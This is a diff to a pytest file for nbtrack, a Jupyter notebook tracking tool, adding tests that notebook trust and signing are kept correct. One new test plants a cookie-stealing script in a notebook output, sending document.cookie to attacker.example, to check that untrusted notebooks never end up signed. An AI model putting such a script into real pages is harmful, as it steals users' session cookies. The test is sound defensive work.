@@ -18,6 +18,7 @@ import pytest
 from conftest import all_runs, download_all, git, make_project, snapshot_of, store_client, write_notebook
 
 import nbtrack
+import nbtrack.signing
 from nbtrack.capture.notebook import compare_live
 from nbtrack.magics.frontend import Frontend
 from nbtrack.track.tracker import Tracker
@@ -160,6 +161,14 @@ def is_signed(raw: bytes) -> bool:
         return bool(notary.check_signature(nbformat.reads(raw.decode(), as_version=4)))
 
 
+def trust_file(path: Path) -> None:
+    """Trust the notebook file as JupyterLab does when it saves a trusted notebook (its bytes stay)."""
+    from nbformat.sign import NotebookNotary
+
+    with NotebookNotary() as notary:
+        notary.sign(nbformat.read(str(path), as_version=4))
+
+
 # --- the comm itself --------------------------------------------------------------------------------
 
 
@@ -224,6 +233,7 @@ def test_the_panel_path_and_live_content_are_recorded(
     saved = json.loads(nb_path.read_text())
     ids = [c["id"] for c in saved["cells"]]
     own_jupyter_dirs(tmp_path, monkeypatch)
+    trust_file(nb_path)  # the user trusts their notebook (Lab signs it on save)
     with Lab(root / "scratch", kernel_env(tmp_path, JPY_SESSION_NAME=str(other))) as lab:
         lab.load_nbtrack()
         # When the panel says which notebook this is, then runs its cells with the editor's content,
@@ -273,11 +283,10 @@ def test_the_panel_path_and_live_content_are_recorded(
         (card,) = displays(stopped)
         assert WIDGET_VIEW in card
         assert "notebook had unsaved edits in the editor" in card["text/plain"]
-        # And the notebooks nbtrack wrote are signed (trusted; in the background, after the stop),
-        # the user's own saved one is not
+        # And, the notebook being trusted, the notebooks nbtrack wrote are signed too (in the
+        # background, after the stop), so they open trusted
         assert eventually_signed(files["nbtrack/history.ipynb"])
         assert eventually_signed(files["nbtrack/notebook.live.ipynb"])
-        assert not is_signed(files["nbtrack/notebook.ipynb"])
 
         # When a second run gets no editor content (the panel sent none after its start)
         lab.execute("%track start --name second")
@@ -293,6 +302,53 @@ def test_the_panel_path_and_live_content_are_recorded(
             "reason": "the editor's content last arrived before %track start (the panel sent none since)",
         }
         assert "nbtrack.notebook.unsaved" not in second.data.tags
+
+
+def test_recording_an_untrusted_notebook_never_makes_it_trusted(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Given a notebook the user never trusted (cloned, say), with a script in an output, and a
+    # trusted one beside it
+    root = make_project(tmp_path / "proj", use_dvc=False)
+    cells = ["%load_ext nbtrack", "%track start --name untrusted", "x = 1", "%track stop"]
+    nb_path = write_notebook(root / "cloned.ipynb", cells)
+    nb = nbformat.read(str(nb_path), as_version=4)
+    script = {"text/html": "<script>fetch('https://attacker.example/?c=' + document.cookie)</script>"}
+    nb.cells[2].outputs = [nbformat.v4.new_output("display_data", data=script)]
+    nbformat.write(nb, str(nb_path))
+    mine = write_notebook(root / "mine.ipynb", ["%track start --name trusted", "%track stop"])
+    git(root, "add", "-A")
+    git(root, "commit", "-q", "-m", "notebooks")
+    own_jupyter_dirs(tmp_path, monkeypatch)
+    trust_file(mine)
+    saved = json.loads(nb_path.read_text())
+    ids = [c["id"] for c in saved["cells"]]
+    with Lab(root, kernel_env(tmp_path)) as lab:
+        lab.load_nbtrack()
+        # When the panel tracks it, sending the editor's content: the saved notebook itself, outputs
+        # and all (signing that content would trust the file too)
+        assert lab.send({"type": "path", "path": "cloned.ipynb", "abs_path": str(nb_path)}) == []
+        for i in (1, 2, 3):
+            live = {"type": "live", "path": "cloned.ipynb", "cell_id": ids[i], "notebook": saved}
+            reply, messages = lab.execute(cells[i], live=live)
+            assert reply["status"] == "ok", text_of(messages, "stderr")
+        # and then a run of the trusted notebook, in the same kernel (one signer, in order: once this
+        # run's records are signed, the untrusted run's turn has passed)
+        assert lab.send({"type": "path", "path": "mine.ipynb", "abs_path": str(mine)}) == []
+        lab.execute("%track start --name trusted")
+        lab.execute("%track stop")
+    client = store_client(root)
+    trusted_run, untrusted_run = all_runs(client)
+    assert (trusted_run.info.run_name, untrusted_run.info.run_name) == ("trusted", "untrusted")
+    trusted_files = download_all(client, trusted_run.info.run_id, tmp_path / "t")
+    assert eventually_signed(trusted_files["nbtrack/history.ipynb"])
+    # Then none of the untrusted run's notebooks opens trusted, and the user's file is still untrusted
+    files = download_all(client, untrusted_run.info.run_id, tmp_path / "u")
+    assert json.loads(files["nbtrack/notebook.live.ipynb"]) == saved  # the script output was recorded
+    for name in ("notebook.ipynb", "notebook.live.ipynb", "history.ipynb"):
+        assert not is_signed(files[f"nbtrack/{name}"]), name
+    assert not is_signed(nb_path.read_bytes())
+    assert nbtrack.signing.is_trusted(mine) and not nbtrack.signing.is_trusted(nb_path)
 
 
 # --- the pieces, in process -------------------------------------------------------------------------
